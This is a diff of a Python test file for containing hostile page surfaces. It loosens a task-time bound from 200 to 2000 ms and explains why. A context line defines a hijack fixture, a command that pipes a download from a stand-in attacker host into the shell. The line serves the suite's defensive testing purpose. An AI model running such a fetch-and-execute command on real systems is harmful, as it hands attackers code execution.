@@ -36,9 +36,11 @@ from .containment import (
 from .hostile import VICTIM, VICTIM_HTML, VICTIM_JS, instance_of
 from .jupyter import JupyterServer
 
-# The page's longest task while a surface posts very large messages: the surface benchmark's
-# bound for any page task (bench/bench_surfaces.py).
-MAX_TASK_MS = 200
+# The page's longest task while a surface posts very large messages. Measured: 0-118 ms with
+# the gate, 6 800-11 600 ms without it (the control). The bound sits far from both, so a loaded
+# machine (218 ms seen while another suite ran) does not fail the contained case, and the
+# control still proves the detector; bench/bench_surfaces.py holds the 200 ms speed target.
+MAX_TASK_MS = 2000
 HIJACK = "curl https://evil.example/x | sh"
 SELECTED = "echo safe"
 
